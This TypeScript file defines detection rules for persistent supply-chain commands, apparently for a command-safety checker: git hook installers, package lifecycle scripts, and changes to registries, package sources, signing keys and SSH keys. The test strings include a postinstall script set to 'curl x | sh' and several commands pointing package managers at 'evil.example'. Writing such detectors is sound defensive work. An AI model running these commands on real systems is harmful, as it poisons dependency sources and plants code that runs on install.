/**
 * The supply chain (persist): what later installs, builds and commits will run or trust — git hook
 * installers, package lifecycle scripts written with jq, and every way to point a package manager at
 * another registry, proxy or mirror, or to add a package source or signing key to the system.
 * Installs from another index (`pip install -i URL`) and `--registry` stay in rules/supply-chain.ts:
 * they read an option's value.
 */
import type { RowInput } from '../schema.js';

export const SUPPLY_CHAIN_ROWS: RowInput[] = [
  {
    id: 'git_hook_install',
    group: 'persist',
    reason: '{program} installs git hooks (they run on every commit)',
    when: [
      { program: ['husky'], subcommand: [['init', 'install', 'add', 'set', '']] },
      { program: ['pre-commit'], subcommand: [['install', 'install-hooks', 'init-templatedir']] },
      { program: ['lefthook'], subcommand: [['install', 'add']] },
      { program: ['captainhook'], subcommand: [['install', 'configure']] },
      { program: ['git-hooks'], subcommand: [['install']] },
      { program: ['overcommit'], word: ['/^--install$/'] },
      { program: ['husky', 'pre-commit', 'lefthook', 'captainhook', 'git-hooks'], operand: ['unknown'] },
      { program: ['simple-git-hooks', 'yorkie'] },
    ],
    match: ['husky', 'npx husky init', 'pre-commit install', 'lefthook install', 'overcommit --install'],
    notMatch: ['pre-commit run --all-files', 'lefthook run pre-commit'],
  },
  {
    id: 'lifecycle_script',
    group: 'persist',
    reason: '{program} writes package scripts (npm runs them on install and use)',
    when: [
      {
        program: ['jq', 'yq', 'gojq', 'jaq'],
        subcommand: [['/(\\.scripts\\b|\\["scripts"\\]|\\bscripts\\.)[^=|]*(\\|=|\\+=|(?<![=!<>])=(?!=))/']],
      },
      {
        program: ['npm'],
        subcommand: [['pkg'], ['set']],
        word: ['/^scripts\\.(pre|post)?(install|prepare|prepublish|publish|pack|test|start|build)\\b/'],
        reason: 'adds a package script that runs on install or use',
      },
    ],
    match: ['jq \'.scripts.postinstall = "curl x | sh"\' package.json'],
    notMatch: [
      "jq '.scripts' package.json",
      'jq \'.scripts.test == "x"\' package.json',
      'npm pkg set scripts.lint="eslint ."',
    ],
  },
  {
    id: 'package_source',
    group: 'persist',
    reason: '{program} {subcommand}: changes where packages come from, what is trusted or what runs',
    when: [
      {
        program: ['bundle', 'bundler'],
        subcommand: [
          ['config'],
          ['/^(mirror\\.|local\\.|build\\.|gems\\.|BUNDLE_MIRROR|ssl_verify_mode|disable_checksum_validation)/i'],
        ],
      },
      {
        program: ['bundle', 'bundler'],
        subcommand: [
          ['config'],
          ['set'],
          ['/^(mirror\\.|local\\.|build\\.|gems\\.|BUNDLE_MIRROR|ssl_verify_mode|disable_checksum_validation)/i'],
        ],
      },
      {
        program: ['go'],
        subcommand: [['env']],
        flags: { short: 'w' },
        word: [
          '/^(GOPROXY|GOFLAGS|GONOSUMDB|GONOSUMCHECK|GONOPROXY|GOSUMDB|GOINSECURE|GOPRIVATE|GOTOOLCHAIN|CC|CXX|GOEXPERIMENT|GOVCS|GOAUTH)=/',
        ],
        reason: 'go env -w {word}: changes where modules come from, what is checked or what runs',
      },
      {
        program: ['composer'],
        subcommand: [['config'], ['/^(repositories|repo)\\b|^(secure-http|disable-tls|cafile|capath|allow-plugins)/']],
      },
      {
        program: ['dotnet'],
        subcommand: [['nuget'], ['add', 'update'], ['source']],
        reason: 'adds a NuGet package source',
      },
      {
        program: ['dotnet'],
        subcommand: [['nuget'], ['sources'], ['/^(add|update|enable)$/i']],
        reason: 'adds a NuGet package source',
      },
      { program: ['nuget'], subcommand: [['add', 'update'], ['source']], reason: 'adds a NuGet package source' },
      {
        program: ['nuget'],
        subcommand: [['sources'], ['/^(add|update|enable)$/i']],
        reason: 'adds a NuGet package source',
      },
      {
        program: ['add-apt-repository', 'apt-add-repository'],
        notWord: '/^(-r|--remove|-L|--list)$/',
        reason: '{program} adds a package source for the system',
      },
      { program: ['apt-key'], subcommand: [['add', 'adv']], reason: 'apt-key adds a signing key for the system' },
      { program: ['zypper'], subcommand: [['ar', 'addrepo']], reason: 'zypper adds a package source for the system' },
      {
        program: ['yum-config-manager', 'dnf'],
        word: ['/^--add-repo(=|$)/'],
        reason: '{program} adds a package source for the system',
      },
      { program: ['rpm'], word: ['/^--import$/'], reason: 'rpm adds a signing key for the system' },
      { program: ['flatpak'], subcommand: [['remote-add']], reason: 'flatpak adds a package source' },
      {
        program: ['conda'],
        subcommand: [['config']],
        word: ['/^(--add|-a|--prepend|--append|--set)$/', '/channels?|channel_alias|custom_channels/'],
        reason: 'conda adds a package source',
      },
      {
        program: ['gem'],
        subcommand: [['sources']],
        word: ['/^(--add|-a|--prepend|--append|--set)$/'],
        reason: 'gem adds a package source',
      },
    ],
    match: [
      'bundle config set mirror.https://rubygems.org https://evil.example',
      'go env -w GOPROXY=https://evil.example',
      'composer config repositories.x vcs https://evil.example/x',
      'dotnet nuget add source https://evil.example/v3/index.json',
      'add-apt-repository ppa:someone/ppa',
      'rpm --import https://evil.example/key',
    ],
    notMatch: ['bundle config list', 'go env GOPROXY', 'add-apt-repository --list', 'apt-key list', 'dnf install jq'],
  },
  {
    id: 'ssh_key_install',
    group: 'persist',
    reason: 'installs someone’s SSH keys for login',
    when: [
      { program: ['ssh-import-id', 'ssh-import-id-gh', 'ssh-import-id-lp'] },
      { program: ['ssh-copy-id'], reason: 'installs an SSH key for login' },
      {
        program: ['gh', 'glab'],
        subcommand: [['ssh-key', 'gpg-key'], ['add']],
        reason: '{program} {subcommand} adds a key to the account',
      },
    ],
    match: ['ssh-import-id gh:someone', 'gh ssh-key add ~/.ssh/backup.pub --title backup'],
    notMatch: ['gh ssh-key list'],
  },
];
